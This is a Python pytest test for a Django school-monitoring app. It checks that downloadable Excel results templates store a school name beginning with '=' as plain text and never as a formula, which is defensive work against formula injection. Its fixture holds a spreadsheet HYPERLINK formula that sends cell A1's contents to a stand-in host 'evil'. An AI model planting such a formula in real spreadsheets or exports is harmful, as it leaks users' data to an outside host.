"""The blank results templates list the schools as text, even a name that starts like a formula."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from schools.models import Organisation

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.mark.parametrize("template", ["results_template", "olympiad_template"])
def test_a_hostile_school_name_is_a_text_cell_of_the_template(client, staff, template):
    taganrog = Organisation.objects.get(name="МОБУ СОШ № 6").municipality
    Organisation.objects.create(region=taganrog.region, municipality=taganrog, name=NAME)
    client.force_login(staff)
    response = client.get(reverse(f"monitoring:{template}", args=[taganrog.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert NAME in [c.value for c in book["Школы"]["A"]]
